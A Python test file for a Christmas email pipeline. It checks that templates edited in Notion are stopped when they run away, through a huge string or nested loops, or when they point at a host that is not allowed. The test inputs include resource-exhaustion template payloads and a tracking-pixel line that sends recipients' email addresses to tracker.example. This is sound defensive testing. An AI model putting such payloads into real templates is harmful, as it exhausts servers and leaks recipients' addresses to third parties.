"""Templates that cannot hurt, through the real send job with templates kept in Notion.

A template edited in Notion that runs away fails the blocking check, named with the
limit it hit, in bounded time, while every other template is still rendered for review;
nothing is sent. One that runs away only for one reader's data (the check's sample
contact is fine) fails that reader's email, which stays due, and the run sends the
others. A template pointing at a host not allowed fails the check with its line, and the
deployment can allow a host (XMAS_ALLOWED_LINK_HOSTS).
"""

from __future__ import annotations

import resource
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

import dagster as dg
import pytest

from xmas_pipeline.adapters.sql.notion_pages import SqlNotionPages
from xmas_pipeline.core.ports import NotionTemplate
from xmas_pipeline.core.render import load_template_dir
from xmas_pipeline_tests.support.instance import in_memory_instance
from xmas_pipeline_tests.support.pipeline_env import (
    PipelineEnv,
    check_results,
    make_env,
    materializations,
    signup,
    today,
)

TRACKER = '<img src="https://tracker.example/p.gif?e={{ email|urlencode }}" alt="">'


def kept_in_notion(env: PipelineEnv, name: str, extra: str) -> int:
    """The shipped template `name` with `extra` as a line before `</body>`, as someone
    left it in Notion; the line `extra` is on."""
    shipped = load_template_dir()[name]
    html = shipped.html.replace("</body>", extra + "\n</body>")
    edit = NotionTemplate(
        name=name,
        page_id=f"page-{name}",
        subject=shipped.subject,
        html=html,
        edited_at=datetime(2026, 12, 1, tzinfo=UTC),
    )
    SqlNotionPages(env.settings.database_url).save_notion_templates([edit])
    return html[: html.index(extra)].count("\n") + 1


def signed_up(env: PipelineEnv, instance: dg.DagsterInstance, *people: dict) -> None:
    for person in people:
        env.drop_signup(person, age=timedelta(minutes=2))
    assert env.ingest(today(), instance).success


def check_details(result: dg.ExecuteInProcessResult) -> str:
    for event in result.all_events:
        if event.event_type_value == "ASSET_CHECK_EVALUATION":
            data = event.asset_check_evaluation_data
            if data.check_name == "every_template_renders":
                return str(data.metadata["details"].value)
    raise AssertionError("no check evaluated")


def cpu_seconds() -> float:
    """CPU time of this process and its reaped children (the rendering children): what a
    runaway template cost, however long a loaded machine made it take."""
    children = resource.getrusage(resource.RUSAGE_CHILDREN)
    return time.process_time() + children.ru_utime + children.ru_stime


@pytest.fixture
def env(tmp_path: Path) -> PipelineEnv:
    return make_env(tmp_path / "home", XMAS_TESTING_MODE="true")


@pytest.mark.timeout(120)
def test_a_runaway_template_fails_the_check_and_the_others_still_render(
    env: PipelineEnv,
) -> None:
    kept_in_notion(env, "email-3", "{{ 'x' * 10**10 }}")
    with in_memory_instance() as instance:
        signed_up(env, instance, signup("jane@x.com"))
        started = cpu_seconds()
        run = env.send(today(), instance, catch_up=True)
        assert cpu_seconds() - started < 60
    assert not run.success
    assert check_results(run)["every_template_renders"] is False
    details = check_details(run)
    for segment in ("CRITICAL", "URGENT", "OPTIMIZE"):
        assert (
            f"email-3 [{segment}]: email-3: stopped: it made a value longer than 1,000,000 "
            "characters (the size limit)"
        ) in details
    assert "email-1" not in details
    # Every other template is still there to review; email-3 says why it is not.
    [previews] = materializations(run, "templates")
    assert "cannot render" in previews["email-3 URGENT"]
    assert "cannot render" not in previews["email-1 URGENT"]
    assert "Jamie" in previews["email-1 URGENT"]
    assert env.outbox_files() == []  # the blocking check stopped the run: nothing sent


@pytest.mark.timeout(120)
def test_a_runaway_for_one_reader_fails_that_email_and_the_run_sends_the_others(
    env: PipelineEnv,
) -> None:
    # Fine for the check's sample contact (a short business name), not for a long one.
    kept_in_notion(
        env,
        "email-1",
        "{% for a in business_name %}{% for b in business_name %}{% endfor %}{% endfor %}",
    )
    long_name = "Northern Lights " * 3000  # 48,000 characters: the intake takes any length
    with in_memory_instance() as instance:
        signed_up(
            env, instance, signup("jane@x.com"), signup("long@x.com", business_name=long_name)
        )
        started = cpu_seconds()
        run = env.send(today(), instance, catch_up=True)
        assert cpu_seconds() - started < 60
        assert run.success
        assert check_results(run)["every_template_renders"]
        assert env.outbox_files() == ["christmas-2025__jane@x.com__email-1.eml"]
        [sent] = materializations(run, "deliveries")
        assert sent["sent"] == 1 and sent["failed"] == 1
        reason = (
            "cannot render: email-1: stopped: it looped more than 100,000 times (the loop limit)"
        )
        assert reason in sent["problems"]
        # It stays due: the next run tries it again (and fails the same way), and the
        # person's sequence goes on once the template is fixed.
        again = env.send(today(), instance, catch_up=True)
        [retried] = materializations(again, "deliveries")
        assert retried["failed"] == 1 and reason in retried["problems"]
    sequences = env.store().load_sequences(env.campaign).set_index("contact_key")
    assert not sequences.loc["long@x.com", "exit_reason"]


@pytest.mark.timeout(120)
def test_a_foreign_image_fails_the_check_with_the_template_and_line(env: PipelineEnv) -> None:
    line = kept_in_notion(env, "email-4", TRACKER)
    with in_memory_instance() as instance:
        signed_up(env, instance, signup("jane@x.com"))
        run = env.send(today(), instance, catch_up=True)
    assert not run.success
    details = check_details(run)
    assert (
        f"email-4 [URGENT]: line {line} of email-4: points at tracker.example, "
        "which is not an allowed host"
    ) in details
    assert env.outbox_files() == []


@pytest.mark.timeout(120)
def test_a_host_the_deployment_allows_passes(tmp_path: Path) -> None:
    env = make_env(
        tmp_path / "home", XMAS_TESTING_MODE="true", XMAS_ALLOWED_LINK_HOSTS="tracker.example"
    )
    other = '<a href="https://other.example/">more</a>'
    kept_in_notion(env, "email-1", TRACKER + other)
    with in_memory_instance() as instance:
        signed_up(env, instance, signup("jane@x.com"))
        run = env.send(today(), instance, catch_up=True)
        details = check_details(run)
        assert "other.example" in details and "tracker.example" not in details
        assert env.outbox_files() == []
        kept_in_notion(env, "email-1", TRACKER)  # the other link taken out in Notion
        run = env.send(today(), instance, catch_up=True)
    assert run.success and check_results(run)["every_template_renders"]
    assert env.outbox_files() == ["christmas-2025__jane@x.com__email-1.eml"]


@pytest.mark.timeout(120)
def test_a_link_only_real_readers_get_is_refused_at_send_time(env: PipelineEnv) -> None:
    # The check's sample contact never sees the image: the send path refuses it per email.
    kept_in_notion(env, "email-1", "{% if email == 'jane@x.com' %}" + TRACKER + "{% endif %}")
    with in_memory_instance() as instance:
        signed_up(env, instance, signup("jane@x.com"), signup("sam@x.com"))
        run = env.send(today(), instance, catch_up=True)
    assert run.success and check_results(run)["every_template_renders"]
    assert env.outbox_files() == ["christmas-2025__sam@x.com__email-1.eml"]
    [sent] = materializations(run, "deliveries")
    assert "cannot render: line" in sent["problems"]
    assert "of email-1: points at tracker.example" in sent["problems"]
